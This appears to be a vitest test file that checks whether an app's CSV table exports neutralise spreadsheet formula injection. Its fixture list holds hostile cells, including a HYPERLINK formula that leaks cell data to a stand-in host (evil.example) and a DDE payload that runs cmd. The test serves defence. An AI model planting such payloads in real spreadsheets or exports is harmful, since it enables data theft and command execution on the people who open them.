import { afterAll, describe, expect, it } from 'vitest'
import { artifactOf, job, makeKit, uploadSource } from '../testing/test-kit'

/** TABLE artifacts are CSV files people open in spreadsheets: no cell may run as a formula. */

const kit = makeKit()
afterAll(() => kit.close())

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
]

describe('TABLE CSV formula injection', () => {
  it('writes hostile text cells inert and keeps negative numbers as numbers', async () => {
    const rows = HOSTILE.map((item, i) => `"${item.replace(/"/g, '""')}",${-12.5 * (i + 1)}`)
    const ds = await uploadSource(kit, 'hostile.csv', `item,amount\n${rows.join('\n')}\n`)
    const session = await kit.session()
    const { body } = await job(kit, {
      session_id: session,
      question: 'total amount by item',
      dataset_id: ds.dataset_id,
    })
    const csv = await (await kit.app.request(artifactOf(body.data.blocks).url)).text()
    const lines = csv.trim().split('\r\n')
    expect(lines.length).toBe(HOSTILE.length + 1)
    // Every data line starts with the apostrophe-prefixed text, never with the formula itself.
    for (const line of lines.slice(1)) expect(line).toMatch(/^"?'[=@+-]/)
    for (const item of HOSTILE) expect(csv).toContain(`'${item.split('"')[0]}`)
    // The amounts are plain numbers, the minus sign kept.
    for (const n of [-12.5, -25, -37.5, -50])
      expect(lines.some((l) => l.endsWith(`,${n}`))).toBe(true)
  })
})
